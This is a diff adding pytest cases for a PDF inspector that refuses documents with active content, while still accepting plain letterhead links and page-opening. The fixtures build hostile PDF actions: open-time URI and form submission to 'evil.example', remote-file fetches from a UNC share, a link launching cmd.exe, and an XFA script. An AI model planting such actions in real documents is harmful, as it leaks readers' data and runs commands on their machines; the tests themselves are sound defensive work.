@@ -8,6 +8,8 @@ import io
 import pytest
 from pypdf import PdfWriter
 from pypdf.actions import JavaScript
+from pypdf.annotations import Link
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
 
 from gerbang_sidecar.adapters.documents.pdf import PypdfInspector
 from gerbang_sidecar.ports.documents import PlainPdf, RefusedDocument
@@ -48,3 +50,57 @@ def test_i3_what_is_not_a_pdf_is_refused(content: bytes) -> None:
 def test_i3_a_truncated_pdf_is_refused() -> None:
     whole = _pdf()
     assert PypdfInspector().inspect(whole[: len(whole) // 2]) == RefusedDocument("not_pdf")
+
+
+def _open_action(kind: str, **entries: object):  # type: ignore[no-untyped-def]
+    def change(writer: PdfWriter) -> None:
+        action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+        for key, value in entries.items():
+            action[NameObject(f"/{key}")] = value  # type: ignore[assignment]
+        writer._root_object[NameObject("/OpenAction")] = action
+    return change
+
+
+def _on_link(kind: str, **entries: object):  # type: ignore[no-untyped-def]
+    """A link annotation on page 1 whose action is ``kind`` (followed when clicked)."""
+    def change(writer: PdfWriter) -> None:
+        writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://example.go.id"))
+        annotation = writer.pages[0]["/Annots"][0].get_object()
+        action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+        for key, value in entries.items():
+            action[NameObject(f"/{key}")] = value  # type: ignore[assignment]
+        annotation[NameObject("/A")] = action
+    return change
+
+
+def _xfa(writer: PdfWriter) -> None:
+    writer._root_object[NameObject("/AcroForm")] = DictionaryObject({
+        NameObject("/Fields"): ArrayObject(),
+        NameObject("/XFA"): TextStringObject("<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")})
+
+
+@pytest.mark.parametrize("change", [
+    _open_action("/URI", URI=TextStringObject("https://evil.example/leak")),
+    _open_action("/SubmitForm", F=TextStringObject("https://evil.example/collect")),
+    _open_action("/GoToR", F=TextStringObject("\\\\evil\\share\\x.pdf")),
+    _on_link("/GoToR", F=TextStringObject("\\\\evil\\share\\x.pdf")),
+    _on_link("/Launch", F=TextStringObject("cmd.exe")),
+    _on_link("/ImportData", F=TextStringObject("data.fdf")),
+    _xfa,
+], ids=["open-uri", "open-submit", "open-unc-file", "link-unc-file", "link-launch",
+        "link-import", "xfa"])
+def test_i3_actions_that_send_data_or_open_other_files_are_refused(change) -> None:  # type: ignore[no-untyped-def]
+    assert PypdfInspector().inspect(_pdf(change)) == RefusedDocument("active_content")
+
+
+def _open_at_page_one(writer: PdfWriter) -> None:
+    writer.open_destination = writer.pages[0]
+
+
+@pytest.mark.parametrize("change", [
+    lambda w: w.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://example.go.id")),
+    _open_at_page_one,
+    _open_action("/GoTo", D=TextStringObject("halaman-1")),
+], ids=["web-link", "open-at-page", "open-goto-action"])
+def test_i3_a_letterhead_link_or_opening_at_a_page_is_plain(change) -> None:  # type: ignore[no-untyped-def]
+    assert PypdfInspector().inspect(_pdf(change)) == PlainPdf(pages=1)
